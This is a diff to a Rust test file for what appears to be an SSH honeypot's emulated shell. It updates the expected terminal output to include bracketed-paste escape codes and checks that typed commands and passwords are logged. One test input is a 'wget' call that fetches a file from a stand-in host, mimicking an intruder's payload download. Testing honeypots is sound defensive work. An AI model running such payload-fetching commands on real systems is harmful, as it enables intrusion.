@@ -236,15 +236,21 @@ fn a_terminal_prompts_and_each_line_is_told() {
     }));
     let (greeting, _) = printed(&client.ask(&channel_request("shell", |_| {})));
     let host = persona();
-    assert!(greeting.starts_with(&format!("Linux {}", host.host())) && greeting.ends_with(&format!("root@{}:~# ", host.host())));
+    assert!(
+        greeting.starts_with(&format!("Linux {}", host.host()))
+            && greeting.ends_with(&format!("\x1b[?2004hroot@{}:~# ", host.host()))
+    );
     let (text, _) = printed(&client.ask(&data(b"whoami\r")));
-    assert_eq!(text, format!("whoami\r\nroot\r\nroot@{}:~# ", host.host()));
+    assert_eq!(text, format!("whoami\r\n{OFF}root\r\n\x1b[?2004hroot@{}:~# ", host.host()));
     assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "whoami");
     client.ask(&data(b"id\rw\r"));
     assert_eq!(client.heard.reports.last().unwrap().0.fields["command"], "id; w");
     let (text, status) = printed(&client.ask(&data(b"exit\r")));
-    assert_eq!((text.as_str(), status), ("exit\r\nlogout\r\n", Some(0)));
+    assert_eq!((text.as_str(), status), ("exit\r\n\x1b[?2004l\rlogout\r\n", Some(0)));
 }
+
+/// What bash says behind a line.
+const OFF: &str = "\x1b[?2004l\r";
 
 /// A terminal with a shell in it, behind its first prompt.
 fn terminal(user: &str) -> (Client, String) {
@@ -263,10 +269,10 @@ fn terminal(user: &str) -> (Client, String) {
 fn a_terminals_keys_edit_the_line() {
     let (mut client, prompt) = terminal("root");
     let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
-    assert_eq!(typed(b"whoamiX\x7f\r"), format!("whoamiX\x08\x1b[K\r\nroot\r\n{prompt}"));
-    assert_eq!(typed(b"\x1b[A\r"), format!("whoami\r\nroot\r\n{prompt}"));
-    assert_eq!(typed(b"nosuch\x15id -u\r"), format!("nosuch{}\x1b[Kid -u\r\n0\r\n{prompt}", "\x08".repeat(6)));
-    assert_eq!(typed(b"ls\t\x1b[D\x17\x1b[3~\x05\r"), format!("ls\x07\x08\x08\x1b[1P\x1b[K\r\n{prompt}"));
+    assert_eq!(typed(b"whoamiX\x7f\r"), format!("whoamiX\x08\x1b[K\r\n{OFF}root\r\n{prompt}"));
+    assert_eq!(typed(b"\x1b[A\r"), format!("whoami\r\n{OFF}root\r\n{prompt}"));
+    assert_eq!(typed(b"nosuch\x15id -u\r"), format!("nosuch{}\x1b[Kid -u\r\n{OFF}0\r\n{prompt}", "\x08".repeat(6)));
+    assert_eq!(typed(b"ls\t\x1b[D\x17\x1b[3~\x05\r"), format!("ls\x07\x08\x08\x1b[1P\x1b[K\r\n{OFF}{prompt}"));
     let recalled = typed(b"history\r");
     assert!(
         recalled.contains("  whoami\r\n")
@@ -281,24 +287,27 @@ fn a_terminals_keys_edit_the_line() {
 fn what_reads_from_a_terminal_reads_until_its_end() {
     let (mut client, prompt) = terminal("root");
     let mut typed = |keys: &[u8]| printed(&client.ask(&data(keys))).0;
-    assert_eq!(typed(b"cat > /tmp/x\r"), "cat > /tmp/x\r\n");
+    assert_eq!(typed(b"cat > /tmp/x\r"), format!("cat > /tmp/x\r\n{OFF}"));
     assert_eq!(typed(b"wget http://198.51.100.9/y\rZ\x7f\r"), "wget http://198.51.100.9/y\r\nZ\x08 \x08\r\n");
     assert_eq!(typed(b"\x04"), prompt);
-    assert_eq!(typed(b"cat\ra\r\x03"), format!("cat\r\na\r\na\r\n^C\r\n{prompt}"));
-    assert_eq!(typed(b"sh\rexit\rbash\r"), format!("sh\r\n# exit\r\n\r\n{prompt}bash\r\n{prompt}"));
-    assert_eq!(typed(b"\x04"), format!("exit\r\n{prompt}"));
-    assert_eq!(typed(b"passwd\r"), "passwd\r\nNew password: ");
+    assert_eq!(typed(b"cat\ra\r\x03"), format!("cat\r\n{OFF}a\r\na\r\n^C\r\n{prompt}"));
+    assert_eq!(typed(b"sh\rexit\rbash\r"), format!("sh\r\n{OFF}# exit\r\n\r\n{prompt}bash\r\n{OFF}{prompt}"));
+    assert_eq!(typed(b"\x04"), format!("{OFF}\r\nexit\r\n{prompt}"));
+    assert_eq!(typed(b"passwd\r"), format!("passwd\r\n{OFF}New password: "));
     assert_eq!(
         typed(b"s3cret\rs3cret\r"),
         format!("\r\nRetype new password: \r\npasswd: password updated successfully\r\n{prompt}")
     );
     let told =
         |name: &str| client.heard.reports.iter().filter_map(|(found, _)| found.fields.get(name).cloned()).collect::<Vec<_>>();
-    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}"]);
+    assert_eq!(told("input"), ["wget http://198.51.100.9/y\\u{a}; \\u{a}", "a\\u{a}"]);
     assert_eq!((told("command").len(), told("new_password")), (4, vec!["s3cret".to_string()]));
     let (mut other, prompt) = terminal("admin");
     let asked = printed(&other.ask(&data(b"passwd\rold\ra\rb\r"))).0;
-    assert!(asked.starts_with("passwd\r\nChanging password for admin.\r\nCurrent password: \r\nNew password: "), "{asked}");
+    assert!(
+        asked.starts_with("passwd\r\n\x1b[?2004l\rChanging password for admin.\r\nCurrent password: \r\nNew password: "),
+        "{asked}"
+    );
     assert!(asked.ends_with(&format!("passwd: password unchanged\r\n{prompt}")), "{asked}");
 }
 
